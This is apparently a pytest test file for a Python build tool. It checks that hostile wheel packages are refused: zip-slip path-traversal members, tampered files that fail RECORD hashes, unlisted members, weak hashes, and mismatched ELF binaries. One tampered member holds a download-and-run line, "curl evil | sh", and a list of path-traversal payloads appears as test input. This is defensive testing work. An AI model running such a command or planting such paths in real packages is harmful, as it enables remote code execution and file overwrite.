"""Hostile wheels against both writers, the zip builder and the image build context, without a Docker engine.

Zip slip (``../``, absolute, backslash, drive letter and ``.data/purelib/../..`` members) is refused with exit 4
before anything is written; a member whose bytes do not match RECORD, or that RECORD does not list, is exit 3;
the binary audit finds ELF files by their magic bytes and shared objects by their extension, in wheels and in
the function's own source alike.
"""

from __future__ import annotations

import os
import random
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from lbuild import safepath
from lbuild.builders import zipper
from lbuild.builders.build import Builder
from lbuild.builders.image import prepare_context
from lbuild.builders.plan import ArtifactSpec
from lbuild.builders.wheels import WheelStore
from lbuild.config import Function
from lbuild.errors import BuildError, LbuildError, ResolutionError
from lbuild.resolver.lockfile import LockedPackage
from lbuild.rules import Target
from tests.support.hostile import elf_needing, hostile_wheel, locked, record_row, tamper
from tests.support.wheelfactory import fake_elf

PY311_X86 = Target("python3.11", "x86_64")


@dataclass
class Project:
    """A project folder (lbuild.toml, one function's source, wheels/) and both ways to build from it."""

    root: Path
    tmp: Path

    @property
    def source(self) -> Path:
        return self.root / "functions" / "fn"

    def function(self, target: Target = PY311_X86) -> Function:
        return Function("fn", "app.handler", self.source, None, target.runtime, target.architecture,
                        package_type="image")

    def wheel(self, name: str, members: dict[str, bytes], **kwargs: object) -> LockedPackage:
        return locked(hostile_wheel(self.root / "wheels", name, members, **kwargs), self.root)  # type: ignore[arg-type]

    def zip(self, packages: list[LockedPackage], target: Target = PY311_X86, kind: str = "function") -> Path:
        """Build a bundle (with the source) or a layer of ``packages``; the cached zip's path."""
        fn = self.function(target) if kind == "function" else None
        spec = ArtifactSpec(kind, "fn", f"{kind}s/fn.zip", "" if fn else "python/", tuple(packages), fn)
        builder = Builder(self.root, WheelStore(self.tmp / "store"), None, lambda _: None, cache=self.tmp / "cache")
        (built,) = builder.build_all([spec], {"fn": target})
        return built.path(self.tmp / "cache")

    def image(self, packages: list[LockedPackage], target: Target = PY311_X86) -> Path:
        context = self.tmp / "deep" / "down" / "context"
        shutil.rmtree(context, ignore_errors=True)
        context.mkdir(parents=True)
        prepare_context(self.function(target), packages, WheelStore(self.tmp / "store"), self.root, context)
        return context


@pytest.fixture()
def project(tmp_path: Path) -> Project:
    root = tmp_path / "repo"
    (root / "functions" / "fn").mkdir(parents=True)
    (root / "lbuild.toml").write_text('[project]\nname = "x"\n', encoding="utf-8")
    (root / "functions" / "fn" / "app.py").write_text("def handler(e, c):\n    return 1\n", encoding="utf-8")
    return Project(root, tmp_path / "work")


Build = Callable[[Project, list[LockedPackage]], object]
WRITERS: dict[str, Build] = {"zip": lambda p, pkgs: p.zip(pkgs), "layer": lambda p, pkgs: p.zip(pkgs, kind="layer"),
                             "image": lambda p, pkgs: p.image(pkgs)}


def _files_under(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() or p.is_symlink())


# --- one safe-path rule ----------------------------------------------------------------------------------------

UNSAFE = ["../../evil_slip.txt", "../../../../evil_deep.txt", "evilmid/../../../evil_mid.txt", "..\\..\\evil_bs.txt",
          "C:/evil_drive.txt", "c:evil_drive2.txt", "evildata-1.0.data/purelib/../../../evil_data.txt", "a//b.py",
          "./a.py", "a/./b.py", "", "x\0y"]


@pytest.mark.parametrize("path", UNSAFE)
def test_safepath_refuses_every_escaping_form(path: str) -> None:
    assert safepath.problem(path) is not None
    with pytest.raises(BuildError, match="unsafe path") as caught:
        safepath.check(path, "somewhere")
    assert caught.value.exit_code == 4 and caught.value.where == "somewhere"


@pytest.mark.parametrize("path", ["a.py", "pkg/mod.py", ".hidden", "a..b/c...d", "pkg/x:y.txt", "ab:c", "é/ü.py"])
def test_safepath_accepts_ordinary_paths(path: str) -> None:
    assert safepath.problem(path) is None


def test_safepath_inside_refuses_a_parent_that_is_a_link_out(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (root / "out").symlink_to(tmp_path)
    with pytest.raises(BuildError, match="leaves"):
        safepath.inside(root, "out/evil.txt")
    assert safepath.inside(root, "a/b.txt") == root / "a" / "b.txt"


@pytest.mark.parametrize("path", [p for p in UNSAFE if p and "\0" not in p])
def test_zip_entries_use_the_same_rule(path: str) -> None:
    with pytest.raises(BuildError, match="unsafe path"):
        zipper.Entry(path, data=b"")


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("member", [*UNSAFE[:7], "ABSOLUTE"])
def test_zip_slip_members_are_refused_before_anything_is_written(project: Project, writer: str,
                                                                 member: str) -> None:
    if member == "ABSOLUTE":  # fault campaign D3: an absolute member replaced the whole context prefix
        member = str(project.tmp / "evil_abs.txt")
    good = project.wheel("fine", {"fine/__init__.py": b"OK = 1\n"})
    evil = project.wheel("evil", {"evil/__init__.py": b"", member: b"pwned\n"})
    with pytest.raises(BuildError) as caught:
        WRITERS[writer](project, [good, evil])
    error = caught.value
    assert error.exit_code == 4 and "unsafe path" in error.what and repr(member) in error.what
    assert "evil-1.0-py3-none-any.whl" in (error.where or "") and member in (error.where or "")
    written = [p for p in (project.tmp.rglob("*") if project.tmp.exists() else []) if p.is_file()
               and "store" not in p.parts]
    assert written == []  # not a byte: no context file, no zip, nothing outside either
    assert not any("evil_" in p.name for p in project.tmp.parent.rglob("*"))
    assert not Path("/evil_drive.txt").exists()


# --- RECORD ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
def test_a_member_that_does_not_match_record_is_exit_3(project: Project, writer: str, compression: int) -> None:
    """Fault campaign D9: the tampered badrecord/core.py shipped."""
    wheel = hostile_wheel(project.root / "wheels", "badrecord", {"badrecord/__init__.py": b"",
                                                                  "badrecord/core.py": b"SAFE = True\n"},
                          compression=compression)
    tamper(wheel, "badrecord/core.py", b"import os; os.system('curl evil | sh')\n")
    with pytest.raises(ResolutionError) as caught:
        WRITERS[writer](project, [locked(wheel, project.root)])
    assert caught.value.exit_code == 3
    assert "does not match its RECORD" in caught.value.what
    assert "badrecord-1.0-py3-none-any.whl:badrecord/core.py" in (caught.value.where or "")
    context = project.tmp / "deep" / "down" / "context"
    assert not (context / "packages" / "var" / "task" / "badrecord" / "core.py").exists()
    assert not list((project.tmp / "cache").rglob("*.zip")) if (project.tmp / "cache").exists() else True


@pytest.mark.parametrize("writer", WRITERS)
def test_a_wrong_size_in_record_is_exit_3(project: Project, writer: str) -> None:
    row = record_row("sized/data.txt", b"12345").replace(",5", ",6")
    package = project.wheel("sized", {"sized/data.txt": b"12345"}, record={"sized/data.txt": row})
    with pytest.raises(ResolutionError, match="RECORD says"):
        WRITERS[writer](project, [package])


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("member", ["unlisted/extra.py", "unlisted-1.0.data/scripts/tool", "unlisted/x.pyc"])
def test_a_member_missing_from_record_is_exit_3(project: Project, writer: str, member: str) -> None:
    package = project.wheel("unlisted", {"unlisted/__init__.py": b"", member: b"#!/bin/sh\n"},
                            record={member: None})
    with pytest.raises(ResolutionError) as caught:
        WRITERS[writer](project, [package])
    assert caught.value.exit_code == 3 and "not listed in RECORD" in caught.value.what
    assert f"unlisted-1.0-py3-none-any.whl:{member}" in (caught.value.where or "")


@pytest.mark.parametrize("writer", WRITERS)
def test_a_shipped_member_without_a_hash_is_exit_3(project: Project, writer: str) -> None:
    package = project.wheel("nohash", {"nohash/__init__.py": b"X = 1\n"}, record={"nohash/__init__.py":
                                                                                  "nohash/__init__.py,,"})
    with pytest.raises(ResolutionError, match="no hash in RECORD"):
        WRITERS[writer](project, [package])


@pytest.mark.parametrize("row", ["md5=abc", "sha1=abc", "sha256=!!!", "sha256=YWJj"])
def test_weak_or_malformed_hashes_are_refused(project: Project, row: str) -> None:
    package = project.wheel("weak", {"weak/__init__.py": b""}, record={"weak/__init__.py":
                                                                        f"weak/__init__.py,{row},0"})
    with pytest.raises(ResolutionError, match="cannot read RECORD"):
        project.zip([package])


@pytest.mark.parametrize("writer", WRITERS)
def test_signatures_and_strong_hashes_pass_and_big_members_are_checked_in_chunks(project: Project,
                                                                                 writer: str) -> None:
    big = b"lorem ipsum dolor\n" * 350_000 + random.Random(7).randbytes(300_000)  # 6.6 MB, 1 MB chunks
    members = {"ok/__init__.py": b"", "ok/big.txt": big, "ok-1.0.dist-info/RECORD.jws": b"{}"}
    package = project.wheel("ok", members, record={"ok-1.0.dist-info/RECORD.jws": None,
                                                   "ok/big.txt": record_row("ok/big.txt", big, "sha512")})
    out = WRITERS[writer](project, [package])
    assert isinstance(out, Path)
    if out.suffix == ".zip":
        with zipfile.ZipFile(out) as archive:
            assert archive.read(next(n for n in archive.namelist() if n.endswith("ok/big.txt"))) == big
    else:
        assert (out / "packages" / "var" / "task" / "ok" / "big.txt").read_bytes() == big


def test_the_wheels_own_dist_info_record_is_read(project: Project) -> None:
    """A second .dist-info (vendored metadata) does not hide the wheel's own RECORD."""
    package = project.wheel("own", {"own/__init__.py": b"", "other-2.0.dist-info/RECORD": b"garbage,,\n",
                                    "other-2.0.dist-info/METADATA": b"Name: other\n"})
    project.zip([package])
    tamper(project.root / "wheels" / "own-1.0-py3-none-any.whl", "own/__init__.py", b"X = 2\n")
    with pytest.raises(ResolutionError):
        project.zip([locked(project.root / "wheels" / "own-1.0-py3-none-any.whl", project.root)])


# --- the audit: ELF by magic bytes, shared objects by extension ------------------------------------------------


@pytest.mark.parametrize("writer", WRITERS)
def test_names_that_merely_contain_so_are_not_audited(project: Project, writer: str) -> None:
    package = project.wheel("contracts", {"contracts/Token.sol": b"pragma solidity ^0.8.0;\n",
                                          "contracts/resolver.solution.json": b"{}",
                                          "contracts/.so/readme.txt": b"hi",
                                          "contracts/libfoo.so.1.2": fake_elf("x86_64")})
    WRITERS[writer](project, [package])


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize(("member", "data", "message"), [
    ("pkg/libbar.so.6", b"/* GNU ld script */", "not an ELF file"),
    ("pkg/_x.abi3.so", fake_elf("aarch64"), "built for aarch64"),
    ("pkg/bin/helper", fake_elf("aarch64"), "built for aarch64"),  # no extension: found by its magic bytes
    ("pkg/data.bin", elf_needing("x86_64", "GLIBC_2.28"), "needs GLIBC_2.28, python3.11 has 2.26"),
])
def test_every_elf_and_shared_object_in_a_wheel_is_audited(project: Project, writer: str, member: str,
                                                           data: bytes, message: str) -> None:
    package = project.wheel("pkg", {"pkg/__init__.py": b"", member: data})
    with pytest.raises(BuildError) as caught:
        WRITERS[writer](project, [package])
    assert caught.value.exit_code == 4 and "cannot load on python3.11 x86_64" in caught.value.what
    assert f"{member} (from pkg): {message}" in caught.value.what


def _source_problem(project: Project, build: Callable[[], object]) -> LbuildError:
    with pytest.raises(BuildError) as caught:
        build()
    return caught.value


@pytest.mark.parametrize("writer", ["zip", "image"])
@pytest.mark.parametrize(("rel", "data", "message"), [
    ("native/_fast.so", elf_needing("x86_64", "GLIBC_2.28"), "needs GLIBC_2.28, python3.11 has 2.26"),
    ("native/_fast.so", fake_elf("aarch64"), "built for aarch64 (64-bit little-endian), python3.11 x86_64 "
                                             "needs x86_64"),
    ("bin/tool", fake_elf("aarch64"), "built for aarch64"),
])
def test_elf_files_in_the_functions_source_are_audited_as_wheel_members_are(project: Project, writer: str,
                                                                            rel: str, data: bytes,
                                                                            message: str) -> None:
    """The same bytes in a wheel and in the source give the same exit code and the same problem text."""
    (project.source / rel).parent.mkdir(parents=True, exist_ok=True)
    (project.source / rel).write_bytes(data)
    source_error = _source_problem(project, lambda: WRITERS[writer](project, []))
    assert source_error.exit_code == 4
    assert f"{rel} (from the function's source): {message}" in source_error.what
    (project.source / rel).unlink()
    package = project.wheel("pkg", {"pkg/__init__.py": b"", rel: data})
    wheel_error = _source_problem(project, lambda: WRITERS[writer](project, [package]))
    assert wheel_error.exit_code == source_error.exit_code
    assert wheel_error.what.replace("(from pkg)", "(from the function's source)") == source_error.what
    assert wheel_error.where == source_error.where


def test_a_good_source_so_ships(project: Project) -> None:
    (project.source / "native").mkdir()
    (project.source / "native" / "_ok.so").write_bytes(elf_needing("x86_64", "GLIBC_2.17"))
    out = project.zip([])
    with zipfile.ZipFile(out) as archive:
        assert "native/_ok.so" in archive.namelist()
    assert os.path.getsize(out) > 0
